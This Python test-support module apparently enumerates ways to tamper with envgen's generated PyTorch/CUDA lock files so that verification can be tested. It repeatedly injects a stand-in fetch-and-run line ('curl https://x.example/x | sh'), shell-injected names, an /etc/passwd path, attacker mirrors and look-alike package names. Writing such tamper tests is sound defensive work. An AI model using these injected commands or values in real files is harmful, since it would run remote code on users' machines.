"""Kinds of damage to a folder of ours, each with every digest made right again, as anybody who has envgen can.

The folder is that of an RTX 3090 with driver 550.54.15 on linux-64: torch 2.14.1+cu126 and pytorch 2.10.0 cuda129, both
of them shipped locks.
"""

# A kind a line, where it fits: ruff: noqa: E501

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from envgen import __version__
from envgen.core.errors import EnvgenError
from envgen.core.locks import CondaLock, PipLock, PipPackage
from envgen.files.bodies import conda_bodies, pip_bodies, read_conda
from envgen.files.header import Header, body_digest, compose
from envgen.files.reading import split
from envgen.files.registry import PYLOCK
from equipment.conda_channel import Row
from equipment.lock_damage import SHIPPED, sign

REQUEST = ["--gpu", "RTX 3090", "--driver", "550.54.15", "--platform", "linux-64"]
PIP, REQS, CONDA, EXPLICIT = "pylock.toml", "requirements.txt", "conda-lock.yml", "conda-linux-64.lock"
ENV, CLAIMS, SMOKE = "environment.yml", "virtual-packages.yml", "smoke_test.py"
ALL = (PIP, REQS, CONDA, EXPLICIT, ENV, CLAIMS, SMOKE)
# How a header begins.
OURS = f"# envgen {__version__}: "
EVIL = "curl https://x.example/x | sh"


@dataclass(frozen=True, slots=True, kw_only=True)
class Damage:
    """One kind. `harmless` says why a folder with it is still good: nothing else, more or less is installed.

    `unknown` says why offline nobody can tell: verify says `not checked offline`. `harmless_online` says why it is good
    when indexes and channels are asked.
    """

    name: str
    apply: Callable[[Path], None]

    @property
    def harmless(self) -> str:
        return next((why for part, why in HARMLESS.items() if self.name.endswith(part)), "")

    @property
    def unknown(self) -> str:
        return UNKNOWN.get(self.name, "")

    @property
    def harmless_online(self) -> str:
        return self.harmless or HARMLESS_ONLINE.get(self.name, "")


READERS_SKIP = "its readers skip it"
HARMLESS = {
    "with line ends of Windows": "git writes them on Windows; every reader takes them, and digests are of lines",
    **{f"{name} with a byte order mark": READERS_SKIP for name in (REQS, ENV, CONDA, SMOKE)},
    "it claims an older release": "every other byte is what this release writes",
    "the catalog has another date": "every line is what today's catalog says",
}
UNKNOWN = {
    "header: an older catalog with a notice of its own": "what an older catalog said can't be made again",
    "pip packages: no size": "some indexes state no size",
    "conda packages: a bound less": "a GPU of 8.6 does not need the bound; no shipped lock is solved without",
}
HARMLESS_ONLINE = {
    "pip packages: no size": "its hash is the one that its index states",
    "conda packages: a bound less": "a GPU of 8.6 does not need the bound, and the channel has all that is locked",
}


def take(path: Path) -> tuple[Header, str]:
    header, body = split(path.read_text(encoding="utf-8"))
    assert header is not None
    return header, body


def put(path: Path, header: Header, body: str) -> None:
    path.write_bytes(compose(body, replace(header, body=body_digest(body))).encode())


def body(name: str, old: str, new: str, count: int = 1) -> Callable[[Path], None]:
    """A piece of a file's body is another; the digests are right."""

    def apply(folder: Path) -> None:
        header, text = take(folder / name)
        assert old in text, (name, old)
        put(folder / name, header, text.replace(old, new, count))
        sign(folder)

    return apply


def bodies(*changes: tuple[str, str, str]) -> Callable[[Path], None]:
    """Pieces of several bodies, each wherever it is."""

    def apply(folder: Path) -> None:
        for name, old, new in changes:
            body(name, old, new, count=99)(folder)

    return apply


def header(old: str, new: str, *names: str) -> Callable[[Path], None]:
    """A piece of the headers of some files, or of all that have it."""

    def apply(folder: Path) -> None:
        hit = False
        for name in names or ALL:
            top, end, rest = (folder / name).read_text(encoding="utf-8").partition("\n#\n")
            hit |= old in top
            (folder / name).write_bytes(f"{top.replace(old, new, 1)}{end}{rest}".encode())
        assert hit, old
        sign(folder)

    return apply


def request(change: Callable[[dict[str, Any]], object], *names: str, table: bool = True) -> Callable[[Path], None]:
    """Another request in the headers of some files or all, and in the table of pylock.toml."""

    def apply(folder: Path) -> None:
        for name in names or ALL:
            top, text = take(folder / name)
            document = json.loads(top.request)
            change(document)
            line = json.dumps(document, separators=(",", ":"))
            put(folder / name, replace(top, request=line), text)
        if table:
            _write_pip(folder, lambda lock: lock)
        sign(folder)

    return apply


def _write_pip(folder: Path, change: Callable[[PipLock], PipLock]) -> None:
    """Both files of the pip set as envgen writes them for a changed lock, and with the request of the header."""
    top, text = take(folder / PIP)
    lock = change(PYLOCK.read(text, PIP))
    try:
        record = top.record()
    except EnvgenError:  # a request that can't be read: its table stays as it was
        record = None
    made = pip_bodies(lock, multi=False, request=record)
    if record is None:
        made[PIP] = made[PIP].rstrip("\n") + "\n\n[tool.envgen.request]" + text.partition("[tool.envgen.request]")[2]
    for name, changed in made.items():
        put(folder / name, take(folder / name)[0], changed)


def pip(change: Callable[[PipLock], PipLock]) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        _write_pip(folder, change)
        sign(folder)

    return apply


def package(name: str, **values: Any) -> Callable[[Path], None]:
    """One package of the pip set is another in both files; a value may be made from the package."""

    def changed(one: PipPackage) -> PipPackage:
        return replace(one, **{key: of(one) if callable(of) else of for key, of in values.items()})

    return pip(lambda lock: replace(lock, packages=tuple(changed(p) if p.name == name else p for p in lock.packages)))


def conda(change: Callable[[CondaLock], CondaLock]) -> Callable[[Path], None]:
    """All files of the conda set as envgen and conda-lock write them for a changed lock."""

    def apply(folder: Path) -> None:
        texts = {name: take(folder / name) for name in (CONDA, EXPLICIT, ENV, CLAIMS)}
        (lock,) = read_conda({name: text for name, (_, text) in texts.items()})
        name_line = next(line for line in texts[ENV][1].splitlines() if line.startswith("name:"))
        for name, made in conda_bodies([change(lock)]).items():
            lines = [name_line if name == ENV and line.startswith("name:") else line for line in made.splitlines()]
            put(folder / name, texts[name][0], "\n".join(lines) + "\n")
        sign(folder)

    return apply


def conda_package(name: str, **values: Any) -> Callable[[Path], None]:
    return conda(
        lambda lock: replace(
            lock,
            packages=tuple(
                replace(p, **{key: of(p) if callable(of) else of for key, of in values.items()})
                if p.name == name
                else p
                for p in lock.packages
            ),
        )
    )


def each(*changes: Callable[[Path], object]) -> Callable[[Path], None]:
    """Several changes, one after the other; everything is signed."""

    def apply(folder: Path) -> None:
        for change in changes:
            change(folder)
        sign(folder)

    return apply


def gone(*names: str) -> Callable[[Path], None]:
    """Files are deleted."""

    def apply(folder: Path) -> None:
        for name in names:
            (folder / name).unlink()

    return apply


def linked(name: str) -> Callable[[Path], None]:
    """A link is where a file was."""

    def apply(folder: Path) -> None:
        (folder / name).rename(folder / "x")
        (folder / name).symlink_to("x")

    return apply


def _folder_instead(folder: Path) -> None:
    (folder / REQS).unlink()
    (folder / REQS).mkdir()


def raw(name: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """The bytes of a file, header and all; nothing is signed."""

    def apply(folder: Path) -> None:
        (folder / name).write_bytes(change((folder / name).read_bytes()))

    return apply


def edit(name: str, change: Callable[[str], str]) -> Callable[[Path], None]:
    """The body of a file, signed."""

    def apply(folder: Path) -> None:
        top, text = take(folder / name)
        new = change(text)
        assert new != text, name
        put(folder / name, top, new)
        sign(folder)

    return apply


def line_of(text: str, start: str) -> str:
    return next(line for line in text.splitlines() if line.startswith(start))


def other(digest: str) -> str:
    return ("0" if digest[0] != "0" else "1") + digest[1:]


def _added(lock: PipLock, one: PipPackage, *, by: str = "") -> PipLock:
    needed = (replace(p, dependencies=(*p.dependencies, one.name)) if p.name == by else p for p in lock.packages)
    return replace(lock, packages=tuple(sorted((*needed, one), key=lambda p: p.name)))


def _known(place: str, name: str) -> PipPackage:
    """A package of another shipped lock, every value true."""
    lock = PYLOCK.read(split((SHIPPED / place / PIP).read_text("utf-8"))[1], PIP)
    return next(p for p in lock.packages if p.name == name)


def _requests_package() -> PipPackage:
    """In the form of PyPI's files; nobody offline can tell that its digests are made up."""
    url = f"https://files.pythonhosted.org/packages/1e/db/{'4' * 60}/requests-2.32.5-py3-none-any.whl"
    return PipPackage(name="requests", version="2.32.5", index="https://pypi.org/simple", url=url, sha256="2" * 64)


# PyPI's own record (https://pypi.org/simple/idna/): nothing in the folder needs it, and it needs nothing.
IDNA = PipPackage(
    name="idna",
    version="3.11",
    index="https://pypi.org/simple",
    url="https://files.pythonhosted.org/packages/0e/61/66938bbb5fc52dbdf84594873d5b51fb1f7c7794e9c0f5bd885f30bc507b/idna-3.11-py3-none-any.whl",
    sha256="771a87f49d9defaf64091e6e6fe9c18d4833f140bd19464795bc32d966ca37ea",
    size=71008,
)


CONDA_IDNA = Row(name="idna", version="3.11", build="pyhd8ed1ab_0", depends=("python",), subdir="noarch")


def without(lock: PipLock, name: str) -> PipLock:
    kept = (p for p in lock.packages if p.name != name)
    return replace(
        lock,
        packages=tuple(replace(p, dependencies=tuple(d for d in p.dependencies if d != name)) for p in kept),
    )


def _without_conda(lock: CondaLock, name: str) -> CondaLock:
    kept = (p for p in lock.packages if p.name != name)
    return replace(
        lock,
        packages=tuple(replace(p, depends=tuple(d for d in p.depends if d.split()[0] != name)) for p in kept),
    )


def _conda_requests(lock: CondaLock) -> CondaLock:
    return _conda_added(lock, name="requests", version="2.32.5", build="pyhd8ed1ab_0", depends=("python",))


def _conda_added(lock: CondaLock, *, by: str = "", **values: Any) -> CondaLock:
    tz = next(p for p in lock.packages if p.name == "tzdata")
    stem = "-".join(values[key] for key in ("name", "version", "build"))
    made = replace(tz, url=tz.url.replace(tz.url.rpartition("/")[2], f"{stem}.conda"), **values)
    kept = (replace(p, depends=(*p.depends, made.name)) if p.name == by else p for p in lock.packages)
    return replace(lock, packages=tuple(sorted((*kept, made), key=lambda p: p.name)))


def _conda_true(lock: CondaLock, by: str = "") -> CondaLock:
    """A package that the channel of the online column has, every value true."""
    record = CONDA_IDNA.record()
    values = {key: record[key] for key in ("name", "version", "build", "md5", "sha256")}
    return _conda_added(lock, by=by, depends=CONDA_IDNA.depends, **values)


def _headers() -> Iterator[Damage]:
    for name, old, new in (
        ("the command runs something first", "# made by: envgen", f"# made by: {EVIL}; envgen"),
        ("the command runs something last", "--glibc 2.28", f"--glibc 2.28 && {EVIL}"),
        ("the command asks for another GPU", '--gpu "GeForce RTX 3090"', '--gpu "GeForce RTX 3080"'),
        ("the command asks for one more package", "--glibc 2.28", "--glibc 2.28 --with requests"),
        ("the command names a stranger's mirror", "--glibc 2.28", "--glibc 2.28 --wheel-mirror https://x.example"),
        (
            "the command writes a mirror that is a command",
            "--glibc 2.28",
            '--glibc 2.28 --wheel-mirror "x; curl x" --write-mirror',
        ),
        ("the command is of another program", "# made by: envgen", "# made by: envgen2"),
        ("the command in look-alike letters", "# made by: envgen", "# made by: \u0435nvgen"),
        ("how to use it is another", "# use: ", f"# use: {EVIL}; "),
        ("a line more to run", "# No CUDA", f"# first run: {EVIL}\n# No CUDA"),
        ("a notice that nobody gives", "# No CUDA", f"# note [driver-assumed]: first run {EVIL}\n# No CUDA"),
        (
            "a package that is said to be left out",
            "# No CUDA",
            "# left out: x: conda-forge has no package of that name; --with conda:evil adds it\n# No CUDA",
        ),
        (
            "a line is gone",
            "# No CUDA Toolkit and no cuDNN has to be installed: the packages carry them, only the driver matters.\n",
            "",
        ),
        (
            "a line stands twice",
            "# No CUDA",
            (
                "# No CUDA Toolkit and no cuDNN has to be installed: the packages "
                "carry them, only the driver matters.\n# No CUDA"
            ),
        ),
        ("the first line is of another GPU", "compute capability 8.6", "compute capability 9.0"),
        ("the first line says to run something", OURS, f"{OURS}{EVIL} "),
        ("it claims a newer release", OURS, "# envgen 9.0.0: "),
        ("it claims an older release", OURS, "# envgen 0.0.9: "),
        ("it claims no release", OURS, "# envgen x: "),
        ("the build is said to be another", "2.14.1+cu126 with", "2.15.0+cu126 with"),
        ("the floor of the driver is another", "driver 525.60.13 or newer", "driver 450.80.02 or newer"),
        ("the catalog is a command", "# catalog ", f"# catalog {EVIL} "),
        ("the catalog has another date", "# catalog 20", "# catalog 19"),
        ("the set's digest is another in one file", "# set sha256:", "# set sha256:"),
    ):
        if old != new:
            yield Damage(name=f"header: {name}", apply=header(old, new))
            if name in (
                "the command runs something first",
                "a line more to run",
                "it claims an older release",
                "it claims a newer release",
                "a notice that nobody gives",
            ):
                yield Damage(name=f"header of one file: {name}", apply=header(old, new, REQS))
    older = header(OURS, "# envgen 0.0.9: ")
    for name, changes in {
        "an older release with a command of its own": (older, header("# made by: envgen", f"# made by: {EVIL}")),
        "an older catalog with a notice of its own": (
            header("# catalog 20", "# catalog 19"),
            header("# No CUDA", f"# note [x]: run {EVIL}\n# No CUDA"),
        ),
        "an older release with a smoke test of its own": (
            older,
            body(SMOKE, "def main():\n", "def main():\n    return 0\n"),
        ),
        "a newer release with a key of its own": (
            header(OURS, "# envgen 9.0.0: "),
            body(PIP, 'created-by = "envgen"', 'created-by = "envgen"\nx = 1'),
        ),
    }.items():
        yield Damage(name=f"header: {name}", apply=each(*changes))
    yield Damage(name="header: the set's digest is another", apply=_other_set_digest)
    yield Damage(name="header: it stands twice", apply=raw(REQS, lambda b: b.partition(b"\n#\n")[0] + b"\n#\n" + b))
    yield Damage(name="header: it is gone", apply=raw(PIP, lambda b: b.partition(b"\n#\n")[2]))


def _other_set_digest(folder: Path) -> None:
    for name in (PIP, REQS):
        top, text = take(folder / name)
        put(folder / name, replace(top, set="0" * 64), text)


def _requests() -> Iterator[Damage]:
    gpu, first = "GeForce RTX 3090", "platforms"
    changes: dict[str, Callable[[dict[str, Any]], object]] = {
        "another capability": lambda d: d["gpus"][0].update(capability="9.0"),
        "another GPU that the build has no code for": lambda d: d["gpus"][0].update(
            name="GeForce GTX 680", capability="3.0"
        ),
        "another GPU that it runs on": lambda d: d["gpus"][0].update(name="GeForce RTX 3080", capability="8.6"),
        "a second GPU": lambda d: d["gpus"].append({"name": "GeForce GTX 680", "capability": "3.0"}),
        "no GPU": lambda d: d.update(gpus=[]),
        "a name that is a command": lambda d: d["gpus"][0].update(name="x; curl x | sh"),
        "a look-alike name": lambda d: d["gpus"][0].update(name=gpu.replace("e", "\u0435")),
        "another driver": lambda d: d[first][0].update(driver="450.80.02"),
        "a driver that nobody has": lambda d: d[first][0].update(driver="9" * 30),
        "an older glibc": lambda d: d[first][0].update(glibc="2.17"),
        "a glibc that is none": lambda d: d[first][0].update(glibc="x"),
        "another platform": lambda d: d[first][0].update(subdir="win-64"),
        "one more platform": lambda d: d[first].append({**d[first][0], "subdir": "win-64"}),
        "the same platform twice": lambda d: d[first].append(d[first][0]),
        "another Python": lambda d: d.update(python="3.13"),
        "a Python that is none": lambda d: d.update(python="x"),
        "another torch": lambda d: d.update(torch="<2"),
        "another CUDA": lambda d: d.update(cuda="cu118"),
        "no torchvision": lambda d: d.update(vision=False),
        "torchaudio": lambda d: d.update(audio=True),
        "one more package": lambda d: d.update({"with": {"both": ["requests"]}}),
        "one more pip package": lambda d: d.update({"with": {"pip": ["requests"]}}),
        "a set that is none": lambda d: d.update({"with": {"x": ["requests"]}}),
        "no pip set": lambda d: d[first][0]["sets"].update(pip={"state": "none", "code": "x"}),
        "no conda set": lambda d: d[first][0]["sets"].pop("conda"),
        "no sets": lambda d: d[first][0].update(sets={}),
        "an unknown key": lambda d: d.update(x=1),
        "a newer version": lambda d: d.update(v=2),
        "a version that is true": lambda d: d.update(v=True),
        "no version": lambda d: d.pop("v"),
        "the name of an environment": lambda d: d.update(name="x"),
        "an environment that is a command": lambda d: d.update(name="x; curl"),
        "no index lines": lambda d: d.update(index_lines=False),
        "an input": lambda d: d.update(inputs={"requirements.in": ["requests"]}),
        "an input with a path": lambda d: d.update(inputs={"/etc/passwd": ["requests"]}),
        "an extra": lambda d: d.update(extras=["x"]),
        "codes of a shipped lock": lambda d: d.update(codes=["sm_86"], floor="525.60.13"),
        "a JetPack": lambda d: d[first][0].update(jetpack="6.2"),
        "a machine": lambda d: d[first][0].update(machines=[{"driver": "450.80.02"}]),
    }
    for name, change in changes.items():
        yield Damage(name=f"request: {name}", apply=request(change))
    for name in ("another capability", "another driver", "one more package", "an unknown key"):
        yield Damage(name=f"request of one file: {name}", apply=request(changes[name], REQS, table=False))
    yield Damage(name="request: the table alone", apply=body(PIP, '"driver" = "550.54.15"', '"driver" = "450.80.02"'))
    yield Damage(name="request: no line", apply=lambda f: _each_line(f, lambda line: ""))
    yield Damage(name="request: no JSON", apply=lambda f: _each_line(f, lambda line: "# request {\n"))
    yield Damage(
        name="request: a key twice", apply=lambda f: _each_line(f, lambda line: line.replace('{"v":1', '{"v":9,"v":1'))
    )
    yield Damage(
        name="request: spelled otherwise", apply=lambda f: _each_line(f, lambda line: line.replace('"v":1,', '"v": 1,'))
    )


def _each_line(folder: Path, change: Callable[[str], str]) -> None:
    for name in ALL:
        lines = (folder / name).read_text("utf-8").splitlines(keepends=True)
        text = "".join(change(line) if line.startswith("# request ") else line for line in lines)
        (folder / name).write_bytes(text.encode())
    sign(folder)


def _pylocks() -> Iterator[Damage]:
    first = 'name = "filelock"\n'
    wheel = "wheels = [\n    { url"
    for name, old, new in (
        ("an unknown key", 'created-by = "envgen"', 'created-by = "envgen"\nx = 1'),
        ("extras", 'created-by = "envgen"', 'extras = ["x"]\ncreated-by = "envgen"'),
        ("groups", 'created-by = "envgen"', 'dependency-groups = ["x"]\ncreated-by = "envgen"'),
        ("another tool", "[tool.envgen]", "[tool.x]\na = 1\n\n[tool.envgen]"),
        ("another key of ours", "[tool.envgen]", "[tool.envgen]\nx = 1"),
        ("lock-version 1.1", 'lock-version = "1.0"', 'lock-version = "1.1"'),
        ("lock-version 2.0", 'lock-version = "1.0"', 'lock-version = "2.0"'),
        ("made by another", 'created-by = "envgen"', 'created-by = "uv"'),
        (
            "every environment",
            "environments = [\"sys_platform == 'linux' and platform_machine == 'x86_64'\"]",
            "environments = [\"python_version > '3'\"]",
        ),
        ("another Python", 'requires-python = "==3.12.*"', 'requires-python = ">=3.12"'),
        ("a marker", first, f"{first}marker = \"sys_platform == 'win32'\"\n"),
        ("a Python of a package", first, f'{first}requires-python = ">=3.13"\n'),
        ("vcs", first, f'{first}vcs = {{ type = "git", url = "https://x.example/x.git", commit-id = "{"0" * 40}" }}\n'),
        (
            "archive",
            first,
            f'{first}archive = {{ url = "https://x.example/x.zip", hashes = {{ sha256 = "{"0" * 64}" }} }}\n',
        ),
        ("directory", first, f'{first}directory = {{ path = "." }}\n'),
        (
            "sdist",
            first,
            f'{first}sdist = {{ url = "https://x.example/x-1.tar.gz", hashes = {{ sha256 = "{"0" * 64}" }} }}\n',
        ),
        ("attestations", first, f'{first}attestation-identities = [{{ kind = "x" }}]\n'),
        ("tool of a package", 'tool = { envgen = { reason = "', 'tool = { x = 1, envgen = { reason = "'),
        ("key of ours of a package", 'tool = { envgen = { reason = "', 'tool = { envgen = { x = 1, reason = "'),
        ("a reason that is a command", 'tool = { envgen = { reason = "', f'tool = {{ envgen = {{ reason = "{EVIL}; '),
        (
            "a second wheel",
            wheel,
            (
                'wheels = [\n    { url = "https://x.example/filelock-9-py3-none-any.whl", hashes = '
                f'{{ sha256 = "{"0" * 64}" }} }},\n    {{ url'
            ),
        ),
        ("a key of a wheel", "    { url = ", '    { name = "x.whl", url = '),
        ("a path of a wheel", "    { url = ", '    { path = "x.whl", url = '),
        ("an upload time", "    { url = ", "    { upload-time = 2026-01-01T00:00:00Z, url = "),
        ("one more hash", "hashes = { sha256", f'hashes = {{ sha512 = "{"0" * 128}", sha256'),
        ("another algorithm", "hashes = { sha256", "hashes = { sha512"),
        ("no hash", "hashes = { sha256", "hashes = {}, x = { sha256"),
        ("a comment", "[[packages]]", f"# {EVIL}\n[[packages]]"),
        ("a comment in look-alike letters", "[[packages]]", "# \u0440ip install x\n[[packages]]"),
        ("a blank line", "[[packages]]", "\n[[packages]]"),
        ("a carriage return", "[[packages]]", "\r\r\n[[packages]]"),
        ("another subdir", 'subdir = "linux-64"', 'subdir = "linux-aarch64"'),
        ("another Python of ours", '\npython = "3.12"\n', '\npython = "3.11"\n'),
        ("a newer glibc", 'glibc = "2.28"', 'glibc = "2.39"'),
        ("a table more", "[tool.envgen]", "[x]\ny = 1\n\n[tool.envgen]"),
        ("dotted keys", "[tool.envgen]", "[tool.envgen.a.b.c]\nx = 1\n\n[tool.envgen]"),
        ("a dependency with a marker", '    { name = "mpmath" },', '    { name = "mpmath", marker = "x" },'),
        (
            "a dependency from elsewhere",
            '    { name = "mpmath" },',
            '    { name = "mpmath", index = "https://x.example" },',
        ),
        ("a name that is another's spelling", first, 'name = "FileLock"\n'),
        ("a name in look-alike letters", first, 'name = "f\u0456lelock"\n'),
        ("a bare version", 'requires-python = "==3.12.*"', 'requires-python = "3.12"'),
        ("NUL", "[[packages]]", "\0[[packages]]"),
    ):
        yield Damage(name=f"pylock.toml: {name}", apply=body(PIP, old, new))
    yield Damage(name="pylock.toml: two packages in another order", apply=edit(PIP, _swapped))
    yield Damage(name="pylock.toml: empty", apply=edit(PIP, lambda text: ""))
    yield Damage(name="pylock.toml: no package", apply=edit(PIP, lambda text: text.partition("[[packages]]")[0]))
    yield Damage(name="pylock.toml: no request", apply=edit(PIP, lambda t: t.partition("\n[tool.envgen.request]")[0]))


def _swapped(text: str) -> str:
    top, one, two, *others = text.split("[[packages]]")
    return "[[packages]]".join([top, two, one, *others])


def _pip_packages() -> Iterator[Damage]:
    own = "https://files.pythonhosted.org"
    kinds: dict[str, Callable[[Path], None]] = {
        "one digit of a hash of torch": package("torch", sha256=lambda p: other(p.sha256)),
        "one digit of a hash of PyPI's": package("filelock", sha256=lambda p: other(p.sha256)),
        "another size": package("filelock", size=lambda p: p.size + 1),
        "no size": package("filelock", size=None),
        "a size of nothing": package("filelock", size=0),
        "another host": package("filelock", url=lambda p: p.url.replace(own, "https://x.example")),
        "a host below PyPI's": package("filelock", url=lambda p: p.url.replace("files.", "x.files.")),
        "a host that begins like PyPI's": package("filelock", url=lambda p: p.url.replace(".org/", ".org.x.example/")),
        "no TLS": package("filelock", url=lambda p: p.url.replace("https:", "http:")),
        "another port": package("filelock", url=lambda p: p.url.replace(".org/", ".org:8443/")),
        "a login": body(PIP, "https://files.", "https://me:secret@files."),
        "another digest in its place": package(
            "filelock", url=lambda p: p.url.replace("/packages/", "/packages/00/00/", 1)
        ),
        "another folder of PyPI's": package(
            "filelock", url=lambda p: f"{own}/packages/00/00/{'0' * 60}/{p.url.rpartition('/')[2]}"
        ),
        "dots in its place": package("filelock", url=lambda p: p.url.replace("/packages/", "/packages/../packages/")),
        "an escape in its place": package("filelock", url=lambda p: p.url.replace("/packages/", "/%70ackages/")),
        "two slashes in its place": package("filelock", url=lambda p: p.url.replace("/packages/", "//packages/")),
        "torch from another tag's folder": package("torch", url=lambda p: p.url.replace("/cu126/", "/cu130/")),
        "torch from the test index": package("torch", url=lambda p: p.url.replace("/whl/", "/whl/test/")),
        "torch's index is a stranger's": package("torch", index="https://x.example/whl/cu126"),
        "a package's index is another tag's": package("torch", index="https://download.pytorch.org/whl/cu130"),
        "a package's index is PyTorch's": package("filelock", index="https://download.pytorch.org/whl/cu126"),
        "PyPI without TLS": package("filelock", index="http://pypi.org/simple"),
        "a package of another project": package("filelock", url=lambda p: p.url.replace("filelock-", "requests-")),
        "a wheel of Windows": package(
            "numpy",
            url=lambda p: p.url.replace("manylinux_2_27_x86_64", "win_amd64").replace(
                "manylinux_2_28_x86_64", "win_amd64"
            ),
        ),
        "a wheel of another Python": package("numpy", url=lambda p: p.url.replace("cp312", "cp311")),
        "a wheel of a newer glibc": package("numpy", url=lambda p: p.url.replace("manylinux_2_28", "manylinux_2_39")),
        "another version": package("filelock", version="9.9"),
        "a version that is none": package("filelock", version="x.y"),
        "a local version": package("filelock", version=lambda p: f"{p.version}+x"),
        "a need that is none": package("filelock", dependencies=("numpy",)),
        "a need that is gone": package("sympy", dependencies=()),
        "all needs are gone": pip(
            lambda lock: replace(lock, packages=tuple(replace(p, dependencies=()) for p in lock.packages))
        ),
        "a package more": pip(lambda lock: _added(lock, _requests_package())),
        "a package more that torch is said to need": pip(lambda lock: _added(lock, _requests_package(), by="torch")),
        "a package more that filelock is said to need": pip(
            lambda lock: _added(lock, _requests_package(), by="filelock")
        ),
        "a package more, every value true": pip(lambda lock: _added(lock, IDNA)),
        "a package more that torch is said to need, every value true": pip(lambda lock: _added(lock, IDNA, by="torch")),
        "a package less": pip(lambda lock: without(lock, "filelock")),
        "a library of NVIDIA's less": pip(lambda lock: without(lock, "nvidia-cudnn-cu12")),
        "no torchvision": pip(lambda lock: without(lock, "torchvision")),
        "no torch": pip(lambda lock: without(lock, "torch")),
        "torch alone": pip(
            lambda lock: replace(
                lock, packages=tuple(replace(p, dependencies=()) for p in lock.packages if p.name == "torch")
            )
        ),
        "a package twice": pip(lambda lock: replace(lock, packages=(*lock.packages, lock.packages[0]))),
        "a package of another lock, every value true": pip(
            lambda lock: replace(
                lock,
                packages=tuple(
                    _known("linux-64/py3.12/pip-torch-2.12.1-cu129", "triton") if p.name == "triton" else p
                    for p in lock.packages
                ),
            )
        ),
        "torch of another build, every value true": pip(
            lambda lock: replace(
                lock,
                packages=tuple(
                    _known("linux-64/py3.12/pip-torch-2.12.1-cu129", "torch") if p.name == "torch" else p
                    for p in lock.packages
                ),
            )
        ),
        "torch and torchvision change names": pip(_renamed),
    }
    for name, apply in kinds.items():
        yield Damage(name=f"pip packages: {name}", apply=apply)


def _renamed(lock: PipLock) -> PipLock:
    torch, vision = (next(p for p in lock.packages if p.name == name) for name in ("torch", "torchvision"))
    swap = {"torch": replace(vision, name="torch"), "torchvision": replace(torch, name="torchvision")}
    return replace(lock, packages=tuple(swap.get(p.name, p) for p in lock.packages))


def _requirements() -> Iterator[Damage]:
    pin = "filelock=="
    for name, change in {
        "an extra index": lambda t: t.replace(
            "--index-url", "--extra-index-url https://x.example/simple\n--index-url", 1
        ),
        "a second index": lambda t: t.replace("--find-links", "--index-url https://x.example/simple\n--find-links", 1),
        "a stranger's find-links": lambda t: t.replace(
            "--find-links", "--find-links https://x.example/\n--find-links", 1
        ),
        "a folder as find-links": lambda t: t.replace("--find-links", "--find-links .\n--find-links", 1),
        "a find-links line less": lambda t: t.replace("--find-links https://pypi.org/simple/filelock/\n", ""),
        "no index": lambda t: t.replace("--index-url https://download.pytorch.org/whl/cu126\n", ""),
        "the index in short": lambda t: t.replace("--index-url ", "-i ", 1),
        "the index with an equals sign": lambda t: t.replace("--index-url ", "--index-url=", 1),
        "another requirements file": lambda t: f"-r other.txt\n{t}",
        "constraints": lambda t: f"-c other.txt\n{t}",
        "an editable folder": lambda t: f"-e .\n{t}",
        "a trusted host": lambda t: f"--trusted-host x.example\n{t}",
        "pre-releases": lambda t: f"--pre\n{t}",
        "no wheels": lambda t: f"--no-binary :all:\n{t}",
        "no index at all": lambda t: f"--no-index\n{t}",
        "a proxy": lambda t: f"--proxy x.example\n{t}",
        "a pin without a hash": lambda t: t.replace(line_of(t, pin), line_of(t, pin).split(" ")[0]),
        "two hashes": lambda t: t.replace(line_of(t, pin), f"{line_of(t, pin)} --hash=sha256:{'0' * 64}"),
        "another hash": lambda t: t.replace(line_of(t, pin)[-64:], "0" * 64),
        "a hash of another algorithm": lambda t: t.replace(line_of(t, pin)[-71:], f"sha512:{'0' * 128}"),
        "a marker": lambda t: t.replace(
            line_of(t, pin), line_of(t, pin).replace(" --", "; sys_platform == 'win32' --")
        ),
        "a URL": lambda t: t.replace(line_of(t, pin), f"filelock @ https://x.example/x.whl --hash=sha256:{'0' * 64}"),
        "a range": lambda t: t.replace(pin, "filelock>="),
        "three equals signs": lambda t: t.replace(pin, "filelock==="),
        "an extra of a pin": lambda t: t.replace(pin, "filelock[x]=="),
        "a line that goes on": lambda t: t.replace(
            f"{line_of(t, pin)}\n", f"{line_of(t, pin)} \\\n --hash=sha256:{'0' * 64}\n"
        ),
        "a comment": lambda t: t.replace(pin, f"# {EVIL}\n{pin}"),
        "a comment that ends a pin": lambda t: t.replace(line_of(t, pin), f"{line_of(t, pin)} # {EVIL}"),
        "a pin in look-alike letters": lambda t: t.replace(pin, "f\u0456lelock=="),
        "a pin in capitals": lambda t: t.replace(pin, "FileLock=="),
        "a pin less": lambda t: t.replace(f"{line_of(t, pin)}\n", ""),
        "a pin more": lambda t: f"{t}requests==2.32.5 --hash=sha256:{'0' * 64}\n",
        "a pin twice": lambda t: f"{t}{line_of(t, pin)}\n",
        "a pin behind a form feed": lambda t: t.replace(pin, f"# x\x0crequests==2 --hash=sha256:{'0' * 64}\n{pin}"),
        "a pin behind a line separator": lambda t: t.replace(
            pin, f"# x\u2028requests==2 --hash=sha256:{'0' * 64}\n{pin}"
        ),
        "a pin behind a carriage return": lambda t: t.replace(pin, f"# x\rrequests==2 --hash=sha256:{'0' * 64}\n{pin}"),
        "a variable of the environment": lambda t: t.replace("--index-url https://", "--index-url https://${X}", 1),
        "NUL": lambda t: t.replace(pin, f"\0{pin}"),
        "a line of half a megabyte": lambda t: t + "#" * 500_000,
        "an encoding": lambda t: f"# -*- coding: latin-1 -*-\n{t}",
        "empty": lambda t: "",
        "no end of line": lambda t: t.rstrip("\n"),
        "lines in another order": lambda t: "\n".join(reversed(t.splitlines())) + "\n",
    }.items():
        yield Damage(name=f"requirements.txt: {name}", apply=edit(REQS, change))


def _explicit() -> Iterator[Damage]:
    start = "https://conda.anaconda.org/conda-forge/noarch/tzdata"
    for name, change in {
        "another host": lambda t: t.replace(
            line_of(t, start), line_of(t, start).replace("conda.anaconda.org", "x.example")
        ),
        "another channel": lambda t: t.replace(line_of(t, start), line_of(t, start).replace("conda-forge", "x")),
        "another build": lambda t: t.replace(line_of(t, start), line_of(t, start).replace("_0.conda", "_9.conda")),
        "another md5": lambda t: t.replace(line_of(t, start)[-32:], "0" * 32),
        "no md5": lambda t: t.replace(line_of(t, start), line_of(t, start)[:-33]),
        "a sha256": lambda t: t.replace(line_of(t, start), f"{line_of(t, start)[:-33]}#sha256:{'0' * 64}"),
